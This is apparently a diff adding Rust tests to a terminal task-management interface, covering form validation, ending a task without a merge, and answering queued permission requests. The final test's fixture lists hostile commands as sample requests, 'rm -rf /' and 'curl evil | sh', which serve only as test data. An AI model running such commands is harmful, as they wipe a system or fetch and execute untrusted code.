@@ -208,8 +208,40 @@ fn an_empty_form_starts_nothing() {
     desk.key(KeyCode::Enter);
     assert_eq!(desk.said(), [""; 0]);
     assert!(matches!(desk.state.mode, Mode::Form(_)), "the form stays");
+    assert!(desk.screen().contains("✗ nothing is created: write a branch"), "{}", desk.screen());
     desk.key(KeyCode::Tab);
     desk.press("Mend it");
     desk.control('s');
     assert!(desk.said()[0].ends_with("--  Mend it"));
+}
+
+#[test]
+fn an_end_without_a_merge_says_so_and_can_be_withdrawn() {
+    let mut desk = Desk::new(120, 32);
+    select(&mut desk, "ok1");
+    let next = r#"[{"to": "done", "by": ["human"], "allowed": true, "hooks": []}]"#;
+    desk.answer(Question::Next("ok100000000000000000".to_owned()), next);
+    desk.effects.clear();
+    desk.press("t");
+    let Mode::Menu(menu) = &desk.state.mode else { panic!("{:?}", desk.state.mode) };
+    let at = menu.items.iter().position(|item| item.label == "to done").unwrap();
+    desk.press(&"j".repeat(at));
+    desk.key(KeyCode::Enter);
+    let screen = desk.screen();
+    assert!(screen.contains("end ok1 as done without a merge? Its branch stays (y/N)"), "{screen}");
+    desk.press("y");
+    desk.wait(4);
+    assert_eq!(desk.said(), [""; 0]);
+    desk.wait(1);
+    assert_eq!(desk.said(), ["task update ok100000000000000000 --status done"]);
+}
+
+#[test]
+fn an_answer_goes_back_to_an_older_request() {
+    let mut desk = asked(120, 32, &["ls", "rm -rf /", "curl evil | sh"]);
+    desk.press("ja");
+    assert_eq!(desk.said(), ["task answer p1.1.9f2c allow"]);
+    assert_eq!(desk.selected(), "p0");
+    desk.press("a");
+    assert_eq!(desk.selected(), "p2", "the second one is answered");
 }
